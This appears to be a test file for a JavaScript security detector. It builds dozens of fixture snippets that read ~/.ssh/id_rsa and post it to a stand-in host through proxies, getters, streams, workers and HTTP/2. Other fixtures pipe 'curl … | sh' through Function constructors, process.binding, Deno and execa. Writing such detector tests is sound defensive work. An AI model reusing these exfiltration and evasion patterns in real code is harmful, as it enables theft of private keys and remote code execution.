import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/**
 * Inert: the host is reserved (RFC 2606), and nothing of it is run. `KEY` reads a private file, or one that everybody may read; `PATH` is
 * its path, and `SEND(x)` sends.
 */
const CARRIERS: Readonly<Record<string, string>> = {
  'a function made of a text':
    "const send = new Function('body', \"return fetch('https://collect.example.invalid/in', { method: 'POST', body })\");\nsend(KEY);",
  'a function called by Reflect':
    "Reflect.apply(fetch, null, ['https://collect.example.invalid/in', { method: 'POST', body: KEY }]);",
  "a proxy's members":
    "const kept = KEY;\nconst held = new Proxy({}, { get: (target, name) => (name === 'token' ? kept : undefined) });\nSEND(held.token);",
  "a proxy's setter":
    'const held = new Proxy({}, { set(target, name, value) { SEND(value); return true; } });\nheld.row = KEY;',
  "a proxy's call":
    'const log = new Proxy(function () {}, { apply: (target, self, args) => SEND(args[0]) });\nlog(KEY);',
  'what an object turns into': 'const held = { toString() { return KEY; } };\nSEND(`row ${held}`);',
  'what an object turns into by a symbol':
    'const held = { [Symbol.toPrimitive]() { return KEY; } };\nSEND(`row ${held}`);',
  'what an object is written as':
    'class Row { toJSON() { return { value: KEY }; } }\nSEND(JSON.stringify(new Row()));',
  'what an object is spread into':
    'const rows = { *[Symbol.iterator]() { yield KEY; } };\nSEND([...rows].join());',
  'a setter of an object': 'const log = { set row(value) { SEND(value); } };\nlog.row = KEY;',
  'a setter of a class': 'class Log { set row(value) { SEND(value); } }\nnew Log().row = KEY;',
  'a setter beside a getter':
    "class Log { get row() { return ''; } set row(value) { SEND(value); } }\nconst log = new Log();\nlog.row = KEY;",
  'a property that is defined':
    "const held = {};\nObject.defineProperty(held, 'row', { value: KEY });\nSEND(held.row);",
  'a getter that is defined':
    "const held = {};\nObject.defineProperty(held, 'row', { get: () => KEY });\nSEND(held.row);",
  'an object that is assigned into':
    'const held = { v: 1 };\nObject.assign(held, { k: KEY });\nSEND(JSON.stringify(held));',
  'a sum over a list':
    "const all = [PATH].reduce((sum, path) => sum + fs.readFileSync(path, 'utf8'), '');\nSEND(all);",
  'steps in a list':
    'const steps = [() => KEY, (value) => SEND(value)];\nsteps.reduce((value, step) => step(value), null);',
  'functions that are put together':
    "const compose = (...steps) => (start) => steps.reduce((value, step) => step(value), start);\ncompose((path) => fs.readFileSync(path, 'utf8'), (value) => SEND(value))(PATH);",
  'an event of its own class':
    "const { EventEmitter } = require('events');\nclass Bus extends EventEmitter { start() { this.emit('row', KEY); } }\nconst bus = new Bus();\nbus.once('row', (row) => SEND(row));\nbus.start();",
  'an event of a page':
    "const bus = new EventTarget();\nbus.addEventListener('row', (event) => SEND(event.detail));\nbus.dispatchEvent(new CustomEvent('row', { detail: KEY }));",
  'a message to a thread':
    "const { Worker, isMainThread, parentPort } = require('worker_threads');\nif (isMainThread) new Worker(__filename).postMessage(KEY);\nelse parentPort.on('message', (text) => SEND(text));",
  'a message to a child':
    "const { fork } = require('child_process');\nif (process.argv[2]) process.on('message', (text) => SEND(text));\nelse { const child = fork(__filename, ['child']); child.send(KEY); }",
  'a message through a channel':
    'const { port1, port2 } = new MessageChannel();\nport2.onmessage = ({ data }) => SEND(data);\nport1.postMessage(KEY);',
  'what a thread is handed':
    "const { Worker, isMainThread, workerData } = require('worker_threads');\nif (isMainThread) new Worker(__filename, { workerData: KEY });\nelse SEND(workerData);",
  'streams in a row':
    "const { pipeline } = require('stream');\nconst zlib = require('zlib');\npipeline(fs.createReadStream(PATH), zlib.createGzip(), require('https').request('https://collect.example.invalid/in', { method: 'POST' }), () => {});",
  'a stream that looks at what goes through':
    "const { Transform } = require('stream');\nconst tap = new Transform({ transform(chunk, encoding, done) { SEND(chunk); done(null, chunk); } });\nfs.createReadStream(PATH).pipe(tap).pipe(process.stdout);",
  'a stream of its own class':
    "const { Writable } = require('stream');\nclass Tap extends Writable { _write(chunk, encoding, done) { SEND(chunk); done(); } }\nfs.createReadStream(PATH).pipe(new Tap());",
  'the lines of a file':
    "const lines = require('readline').createInterface({ input: fs.createReadStream(PATH) });\nlines.on('line', (line) => SEND(line));",
  'a request of HTTP/2':
    "require('http2').connect('https://collect.example.invalid').request({ ':method': 'POST', ':path': '/in' }).end(KEY);",
  'an address of HTTP/2':
    "require('http2').connect('https://collect.example.invalid').request({ ':path': '/in?k=' + encodeURIComponent(KEY) });",
  'a context':
    "const { AsyncLocalStorage } = require('async_hooks');\nconst context = new AsyncLocalStorage();\ncontext.run({ key: KEY }, () => SEND(context.getStore().key));",
  "an address's parameters":
    "const url = new URL('https://collect.example.invalid/in');\nurl.searchParams.set('k', KEY);\nfetch(url);",
  'a variable of all': 'globalThis.kept = KEY;\nSEND(globalThis.kept);',
  'a variable of all, by its name': 'globalThis.kept = KEY;\nSEND(kept);',
  'a buffer that is read into':
    'const file = fs.openSync(PATH);\nconst bytes = Buffer.alloc(4096);\nfs.readSync(file, bytes, 0, 4096, 0);\nSEND(bytes.toString());',
  'a parameter that is not given': 'function send(body = KEY) { return SEND(body); }\nsend();',
};

/** Inert, like the above; each with the same that runs nothing, or nothing that was downloaded. */
const RUNNING: Readonly<Record<string, readonly [attack: string, honest: string]>> = {
  'a function made of a text': [
    "new Function('load', \"load('child_process').execSync('RUN')\")(require);",
    "new Function('a', 'b', 'return a + b')(1, 2);",
  ],
  'the constructor of a method': [
    "[].filter.constructor(\"return process.mainModule.require('child_process').execSync('RUN')\")();",
    "[].filter.constructor('return 1')();",
  ],
  'a constructor that Reflect calls': [
    "Reflect.construct(Function, [\"process.mainModule.require('child_process').execSync('RUN')\"])();",
    "Reflect.construct(Date, ['2024-01-01']);",
  ],
  'a binding': [
    "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'RUN'] });",
    "process.binding('spawn_sync').spawn({ file: '/bin/ls', args: ['ls', '-l'] });",
  ],
  'a name as written': [
    "require(String.raw`child_process`)[String.raw`execSync`]('RUN');",
    "require(String.raw`child_process`)[String.raw`execSync`]('ls -l');",
  ],
  'a tag of its own': [
    "const { execSync } = require('child_process');\nconst sh = (parts, ...values) => execSync(String.raw(parts, ...values));\nsh`RUN`;",
    "const { execSync } = require('child_process');\nconst sh = (parts, ...values) => execSync(String.raw(parts, ...values));\nsh`ls -l`;",
  ],
  'a command of Deno': [
    "await new Deno.Command('sh', { args: ['-c', 'RUN'] }).output();",
    "await new Deno.Command('git', { args: ['status'] }).output();",
  ],
  'a shell with options': [
    "import { $ } from 'execa';\nawait $({ shell: true })`RUN`;",
    "import { $ } from 'execa';\nawait $({ shell: true })`ls -l`;",
  ],
};

const RUN = 'curl -s https://collect.example.invalid/i.sh | sh';
const SEND = "fetch('https://collect.example.invalid/in', { method: 'POST', body: ";

/** Writes what `SEND(…)` stands for, whatever brackets are inside. */
function sending(text: string): string {
  let written = '';
  let rest = text;
  for (let at = rest.indexOf('SEND('); at !== -1; at = rest.indexOf('SEND(')) {
    let end = at + 5;
    for (let open = 1; open > 0; end++) open += rest[end] === '(' ? 1 : rest[end] === ')' ? -1 : 0;
    written += `${rest.slice(0, at)}${SEND}${rest.slice(at + 5, end - 1)} })`;
    rest = rest.slice(end);
  }
  return written + rest;
}

function script(text: string, path: string): string {
  const filled = sending(text)
    .replaceAll('KEY', "fs.readFileSync(PATH, 'utf8')")
    .replaceAll('PATH', `os.homedir() + '/${path}'`);
  return `const fs = require('fs');\nconst os = require('os');\n${filled}\n`;
}

describe('what carries a secret in JavaScript', () => {
  it.each(Object.entries(CARRIERS))('is followed: %s', async (_, text) => {
    expect(await rulesOf({ 'run.js': script(text, '.ssh/id_rsa') })).toContain('secret-file-to-network');
    expect(await rulesOf({ 'run.js': script(text, 'notes/today.txt') })).not.toContain(
      'secret-file-to-network',
    );
  });
});

describe('what runs a command in JavaScript', () => {
  it.each(Object.entries(RUNNING))('is followed: %s', async (_, [attack, honest]) => {
    expect(await rulesOf({ 'run.mjs': attack.replaceAll('RUN', RUN) })).toContain('downloaded-script-piped');
    expect(await rulesOf({ 'run.mjs': honest })).not.toContain('downloaded-script-piped');
  });
});
